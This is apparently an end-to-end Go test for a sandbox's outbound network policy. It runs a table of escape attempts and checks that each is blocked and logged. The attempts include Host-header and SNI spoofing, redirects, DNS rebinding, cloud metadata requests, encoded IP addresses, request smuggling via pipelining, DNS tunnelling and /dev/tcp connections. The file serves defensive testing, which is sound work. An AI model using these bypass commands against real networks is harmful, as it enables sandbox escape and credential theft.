package e2e_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/caisson-dev/caisson/internal/testenv"
)

// upstreams serves plain HTTP on 80 and TLS on 443 of upstreamIP, and records
// which names it was asked for: what arrives there has left the sandbox.
func upstreams(t *testing.T) (seen func(string) bool) {
	t.Helper()
	var mu sync.Mutex
	hosts := map[string]bool{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hosts[r.Host] = true
		mu.Unlock()
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://other.test/", http.StatusFound)
			return
		}
		fmt.Fprintf(w, "upstream %s\n", r.Host)
	})
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"allowed.test", "other.test"}, NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	for port, conf := range map[string]*tls.Config{"80": nil, "443": {Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}} {
		l, err := net.Listen("tcp", net.JoinHostPort(upstreamIP, port))
		if err != nil {
			t.Fatal(err)
		}
		srv := &http.Server{Handler: h, TLSConfig: conf, ReadHeaderTimeout: 10 * time.Second}
		t.Cleanup(func() { _ = srv.Close() })
		if conf == nil {
			go func() { _ = srv.Serve(l) }()
		} else {
			go func() { _ = srv.ServeTLS(l, "", "") }()
		}
	}
	return func(host string) bool { mu.Lock(); defer mu.Unlock(); return hosts[host] }
}

func TestEgress(t *testing.T) {
	t.Parallel()
	seen := upstreams(t)
	b := create(t, shared, map[string]any{"network": map[string]any{"allowOut": []string{"allowed.test", "rebind.test"}}})

	t.Run("allowed", func(t *testing.T) {
		for _, line := range []string{"curl -sS -m 10 http://allowed.test/", "curl -ksS -m 10 https://allowed.test/", "curl -sS -m 10 http://ALLOWED.test/"} {
			if r := sh(t, shared, b, line+" 2>&1"); !strings.HasPrefix(r.Stdout, "upstream ") {
				t.Errorf("%s = %q", line, r.Stdout)
			}
		}
	})

	// Each of these tries to get out by a way that is not allowed.
	for name, line := range map[string]string{
		"denied name":            "curl -sSf -m 5 http://other.test/",
		"subdomain":              "curl -sSf -m 5 http://sub.allowed.test/",
		"raw address":            "curl -sSf -m 5 http://" + upstreamIP + "/",
		"raw address tls":        "curl -ksSf -m 5 https://" + upstreamIP + "/",
		"other host header":      "curl -sSf -m 5 -H 'Host: other.test' http://allowed.test/",
		"absolute form":          "curl -sSf -m 5 --request-target http://other.test/ http://allowed.test/",
		"other sni":              "curl -ksSf -m 5 --connect-to other.test:443:allowed.test:443 https://other.test/",
		"redirect to denied":     "curl -sSLf -m 5 http://allowed.test/redirect",
		"rebinding to private":   "curl -sSf -m 5 http://rebind.test/",
		"metadata":               "curl -sSf -m 5 http://169.254.169.254/latest/meta-data/",
		"link-local v6":          "curl -gsSf -m 5 'http://[fd00:ec2::254]/'",
		"ipv6":                   "curl -gsSf -m 5 'http://[2001:db8::1]/'",
		"mapped ipv6":            "curl -gsSf -m 5 'http://[::ffff:127.77.0.1]/'",
		"gateway address":        "curl -sSf -m 5 http://10.0.0.1/",
		"host loopback":          "curl -sSf -m 5 http://127.0.0.1:3000/health",
		"decimal address":        "curl -sSf -m 5 http://2135752705/",
		"octal address":          "curl -sSf -m 5 http://0177.0115.0.1/",
		"trailing dot and other": "curl -sSf -m 5 -H 'Host: other.test.' http://allowed.test/",
		"dns over tcp":           "python3 -c \"import socket; s=socket.create_connection(('8.8.8.8',53),3); s.send(b'x'); print(s.recv(1) or exit(1))\"",
		"quic":                   "python3 -c \"import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x'*1200,('" + upstreamIP + "',443)); print(s.recv(1))\"",
		"ping":                   "ping -c1 -W2 " + upstreamIP,
		"ssh":                    "python3 -c \"import socket; s=socket.create_connection(('" + upstreamIP + "',22),3); print(s.recv(1) or exit(1))\"",
		"smuggled pipeline": `python3 -c "
import socket
s = socket.create_connection(('allowed.test', 80), 5)
s.settimeout(5)
s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n')
d = b''
while True:
    p = s.recv(4096)
    if not p: break
    d += p
exit(0 if b'upstream other.test' in d else 1)"`,
	} {
		t.Run(name, func(t *testing.T) {
			if r := sh(t, shared, b, line+" 2>&1"); r.ExitCode == 0 {
				t.Errorf("%s\nwent out: %q", line, r.Stdout)
			}
		})
	}
	for _, host := range []string{"other.test", "sub.allowed.test", upstreamIP, "other.test."} {
		if seen(host) {
			t.Errorf("the upstream was asked for %q", host)
		}
	}
	// The test can fail: the same upstream answers when policy says so.
	if !seen("allowed.test") {
		t.Error("the upstream never saw the allowed name")
	}

	t.Run("dns tunnel", func(t *testing.T) {
		r := sh(t, shared, b, `python3 -c "
import socket
try:
    socket.getaddrinfo('c2VjcmV0.other.test', 80); print('resolved')
except socket.gaierror as e:
    print('nxdomain' if e.errno in (socket.EAI_NONAME, -5) else e)"`)
		if r.Stdout != "nxdomain\n" {
			t.Errorf("a denied name: %q", r.Stdout)
		}
	})
	t.Run("log", func(t *testing.T) { egressLog(t, b) })
}

func egressLog(t *testing.T, b testenv.Box) {
	var log []map[string]any
	waitFor(t, 5*time.Second, "the egress log", func() bool {
		return shared.API(t.Context(), http.MethodGet, "/native/v1/sandboxes/"+b.ID+"/egress?limit=1000", nil, &log) == nil && strings.Contains(fmt.Sprint(log), "other.test")
	})
	text := fmt.Sprint(log)
	wantContains(t, "egress log", text, "allowed.test", "allow", "deny", "169.254.169.254")
}

func TestEgressUpdate(t *testing.T) {
	t.Parallel()
	s := own(t)
	l, err := net.Listen("tcp", upstreamIP+":8099")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_, _ = c.Write([]byte("out\n"))
			_ = c.Close()
		}
	}()
	b := create(t, s, nil)
	try := func() string {
		return sh(t, s, b, "timeout 5 bash -c 'exec 3<>/dev/tcp/allowed.test/8099 && cat <&3' 2>/dev/null; true").Stdout
	}
	if got := try(); got != "" {
		t.Errorf("before: %q", got)
	}
	put := func(body map[string]any) {
		t.Helper()
		if err := s.API(t.Context(), http.MethodPut, "/sandboxes/"+b.ID+"/network", body, nil); err != nil {
			t.Fatal(err)
		}
	}
	put(map[string]any{"allowOut": []string{"allowed.test"}})
	if got := try(); got != "out\n" {
		t.Errorf("after allowing: %q", got)
	}
	s.Kill9()
	if err := s.Restart(t.Context()); err != nil {
		t.Fatal(err)
	}
	if got := try(); got != "out\n" {
		t.Errorf("after a restart: %q", got)
	}
	put(map[string]any{})
	if got := try(); got != "" {
		t.Errorf("after the empty update: %q", got)
	}
}
